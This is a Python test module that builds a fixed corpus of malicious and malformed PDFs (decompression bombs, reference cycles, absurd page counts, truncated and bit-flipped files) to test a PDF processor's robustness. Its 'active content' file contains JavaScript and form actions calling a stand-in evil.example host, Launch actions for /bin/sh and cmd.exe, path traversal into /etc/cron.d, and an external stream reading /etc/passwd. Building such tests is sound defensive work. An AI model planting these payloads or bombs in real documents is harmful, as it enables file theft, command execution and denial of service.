"""PDFs that mean harm, or were harmed: each a name and its bytes. Nothing here is random between runs."""

import random
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

from tests import pdfs

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /T 11 Tf 72 700 Td (The lighthouse keeper writes the weather into a book.) Tj ET"
CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
SEED = 20_260
FLIPS, CUTS = 24, 19
BOMB_MB = 300


def write(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    data, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start, size = len(data), len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return bytes(data + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start))


def stream(content: bytes, head: bytes = b"") -> bytes:
    """An object that is a stream."""
    return b"<<" + head + b"/Length %d>>stream\n" % len(content) + content + b"\nendstream"


def one_page(*more: bytes, page: bytes = b"", resources: bytes = b"", content: bytes = stream(TEXT)) -> bytes:
    """A page (object 3) with a content (4), a font (5) and `more` objects from 6 on."""
    fonts = b"/Resources<</Font<</T 5 0 R>>%s>>" % resources
    return write(
        [CATALOG, PAGES, b"<</Type/Page/Parent 2 0 R/Contents 4 0 R%s%s>>" % (fonts, page), content, FONT, *more]
    )


def deflate(megabytes: int, filler: bytes = b" ") -> bytes:
    """So much of a filler, in a thousandth of its size; the text follows it."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(filler * (1 << 20)) for _ in range(megabytes))
    return packed + packer.compress(TEXT) + packer.flush()


def make_bomb() -> bytes:
    return one_page(content=stream(deflate(BOMB_MB), b"/Filter/FlateDecode"))


def make_nested_bomb() -> bytes:
    return one_page(content=stream(zlib.compress(deflate(BOMB_MB), 9), b"/Filter[/FlateDecode/FlateDecode]"))


def make_image_bomb() -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    image = stream(deflate(200, b"\0"), head + b"/Filter/FlateDecode")
    return one_page(image, resources=b"/XObject<</I 6 0 R>>", content=stream(TEXT + b" 500 0 0 500 0 0 cm /I Do"))


def make_many_objects() -> bytes:
    lines = b"".join(b"BT /T 4 Tf %d %d Td (w%d) Tj ET " % (n % 100 * 6, n // 100 * 8, n) for n in range(10_000))
    return one_page(content=stream(lines))


def make_many_fonts() -> bytes:
    named = b"".join(b"/F%d %d 0 R" % (n, n + 6) for n in range(3_000))
    shown = b"".join(b"BT /F%d 4 Tf %d %d Td (w) Tj ET " % (n, n % 90 * 6, n // 90 * 20) for n in range(3_000))
    page = b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<<%s>>>>>>" % named
    return write([CATALOG, PAGES, page, stream(shown), FONT, *[FONT] * 3_000])


def make_active() -> bytes:
    """Scripts, programs to launch, forms to send, addresses to call, a file within, when opened and when shown."""
    actions = (
        b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example/'\\);)/Next 7 0 R>>",
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>/Next 8 0 R>>",
        b"<</S/SubmitForm/F(http://evil.example/)/Next 9 0 R>>",
        b"<</S/URI/URI(http://evil.example/)/Next 10 0 R>>",
        b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>",
        stream(b"MZ" + bytes(100), b"/Type/EmbeddedFile"),
        b"<</Type/Filespec/F(../../../etc/cron.d/evil)/EF<</F 11 0 R>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 9 0 R>>",
    )
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 7 0 R>>/Names<</JavaScript<</Names[(a)6 0 R]>>"
        b"/EmbeddedFiles<</Names[(../../evil)12 0 R]>>>>/AcroForm<</XFA(<!DOCTYPE x SYSTEM 'http://evil.example/'>)>>>>",
        PAGES,
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</T 5 0 R>>>>/AA<</O 6 0 R>>/Annots[13 0 R]>>",
        stream(TEXT),
        FONT,
    ]
    return write([*objects, *actions])


def make_outside_stream() -> bytes:
    """A content that lies in another file, as the specification allows."""
    return one_page(content=b"<</F(/etc/passwd)/FFilter[]/Length 0>>stream\n\nendstream")


def make_type3_cycle() -> bytes:
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
    font += b"/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>/Resources<</Font<</C 6 0 R>>>>>>"
    glyph = stream(b"9 0 d0 BT /C 9 Tf (aaaaaaaa) Tj ET")
    return one_page(font, glyph, content=stream(TEXT + b" BT /C 9 Tf 9 9 Td (aaaaaaaa) Tj ET"), resources=b"").replace(
        b"/T 5 0 R", b"/T 5 0 R/C 6 0 R", 1
    )


def make_form_cycle() -> bytes:
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</A 6 0 R/B 7 0 R>>>>"
    forms = stream(b"/B Do /B Do /B Do", head), stream(b"/A Do /A Do /A Do", head)
    return one_page(*forms, resources=b"/XObject<</A 6 0 R/B 7 0 R>>", content=stream(TEXT + b" /A Do"))


def make_outline_cycle() -> bytes:
    items = b"<</First 7 0 R/Last 7 0 R/Count 9>>", b"<</Title(a)/Parent 6 0 R/Next 7 0 R/First 6 0 R/Dest[3 0 R/Fit]>>"
    return one_page(*items).replace(b"/Pages 2 0 R", b"/Pages 2 0 R/Outlines 6 0 R", 1)


def make_xref_loop() -> bytes:
    data = one_page()
    return data.replace(b"/Root", b"/Prev %d/Root" % data.rindex(b"xref\n0"), 1)


def make_pages(kids: bytes, count: bytes, *more: bytes) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</T 5 0 R>>>>>>"
    tree = b"<</Type/Pages/Kids[%s]/Count %s/MediaBox[0 0 595 842]>>" % (kids, count)
    return write([CATALOG, tree, page, stream(TEXT), FONT, *more])


def sized(box: bytes) -> bytes:
    return one_page(page=b"/MediaBox[%s]" % box)


def make_wordy(pages: int) -> bytes:
    """So many pages of 60 kB of text each."""
    words = b"".join(b"BT /T 1 Tf 9 %d Td (%s) Tj ET " % (9 + 9 * n, b"lighthouse " * 100) for n in range(60))
    kids = b"".join(b"%d 0 R " % (n + 6) for n in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</T 5 0 R>>>>>>"
    return make_pages(kids, b"%d" % pages, *[page] * pages).replace(stream(TEXT), stream(words), 1)


MADE: Mapping[str, Callable[[], bytes]] = {
    "bomb": make_bomb,
    "bomb in a bomb": make_nested_bomb,
    "image bomb": make_image_bomb,
    "10,000 objects on a page": make_many_objects,
    "3,000 fonts": make_many_fonts,
    "active content": make_active,
    "content in another file": make_outside_stream,
    "font that draws with itself": make_type3_cycle,
    "forms that draw each other": make_form_cycle,
    "outline that comes back": make_outline_cycle,
    "xref that comes back": make_xref_loop,
    "page tree that comes back": lambda: make_pages(b"2 0 R 3 0 R", b"2"),
    "page tree with one page 9,999 times": lambda: make_pages(b"3 0 R " * 9_999, b"9999"),
    "two billion pages": lambda: make_pages(b"3 0 R", b"2147483647"),
    "30,000 pages": lambda: make_pages(b"3 0 R " * 30_000, b"30000"),
    "fewer pages than none": lambda: make_pages(b"3 0 R", b"-5"),
    "length that is itself": lambda: one_page(content=b"<</Length 4 0 R>>stream\n" + TEXT + b"\nendstream"),
    "length beyond the end": lambda: one_page().replace(b"/Length 8", b"/Length 999999998", 1),
    "arrays in arrays": lambda: one_page(page=b"/X" + b"[" * 100_000 + b"]" * 100_000),
    "dictionaries in dictionaries": lambda: one_page(page=b"/X" + b"<</Y" * 50_000 + b">>" * 50_000),
    "states in states": lambda: one_page(content=stream(b"q " * 500_000 + TEXT)),
    "title of a megabyte": lambda: write_title(b"T" * (1 << 20)),
    "page of 14,400 points": lambda: sized(b"0 0 14400 14400"),
    "page of 1e9 points": lambda: sized(b"0 0 1000000000 1000000000"),
    "page without an area": lambda: sized(b"0 0 0 0"),
    "page of negative size": lambda: sized(b"0 0 -595 -842"),
    "page of no numbers": lambda: sized(b"/a /b null (c)"),
    "page of 1e39 points": lambda: sized(b"0 0 " + b"9" * 39 + b" 1"),
    "thin page": lambda: sized(b"0 0 0.0001 1000000"),
    "zip before it": lambda: b"PK\x03\x04" + bytes(60) + one_page(),
    "web page before it": lambda: b"<html><script>alert(1)</script>" + one_page(),
    "wrong xref": lambda: one_page().replace(b"startxref\n", b"startxref\n9", 1),
    "xref of other objects": lambda: one_page().replace(b"0000000015", b"0000000115", 1),
    "no root": lambda: one_page().replace(b"/Root 1 0 R", b"", 1),
    "root that is a page": lambda: one_page().replace(b"/Root 1 0 R", b"/Root 3 0 R", 1),
    "encryption of no kind": lambda: one_page(b"<</Filter/Standard/V 99/R 99/O()/U()/P 0>>").replace(
        b"/Root", b"/Encrypt 6 0 R/ID[()()]/Root", 1
    ),
    "end of a line everywhere": lambda: one_page().replace(b" ", b"\r"),
    "signature alone": lambda: b"%PDF-",
    "signature and noise": lambda: b"%PDF-1.7\n" + random.Random(SEED).randbytes(50_000),
}


def write_title(title: bytes) -> bytes:
    """A page in a document of this title."""
    return one_page(b"<</Title(%s)>>" % title).replace(b"/Root", b"/Info 6 0 R/Root", 1)


@cache
def make_sound() -> bytes:
    """A file that is all right: text, a heading, a table, an image."""
    with TemporaryDirectory() as folder:
        return pdfs.make_table(Path(folder) / "t.pdf", no_new_id=True).read_bytes()


def list_cut() -> Iterator[tuple[str, bytes]]:
    """A sound file that ends too early, at every 5 %."""
    data = make_sound()
    for part in range(1, CUTS + 1):
        yield f"cut at {5 * part} %", data[: len(data) * part // (CUTS + 1)]


def list_flipped(count: int = FLIPS) -> Iterator[tuple[str, bytes]]:
    """A sound file in which some bits are turned, more with each."""
    for number in range(count):
        chance, data = random.Random(SEED + number), bytearray(make_sound())
        for _ in range(2 ** (number % 8)):
            data[chance.randrange(8, len(data))] ^= 1 << chance.randrange(8)
        yield f"flipped {number}", bytes(data)


def list_all() -> Iterator[tuple[str, bytes]]:
    """Every file of the corpus."""
    yield from ((name, make()) for name, make in MADE.items())
    yield from list_cut()
    yield from list_flipped()
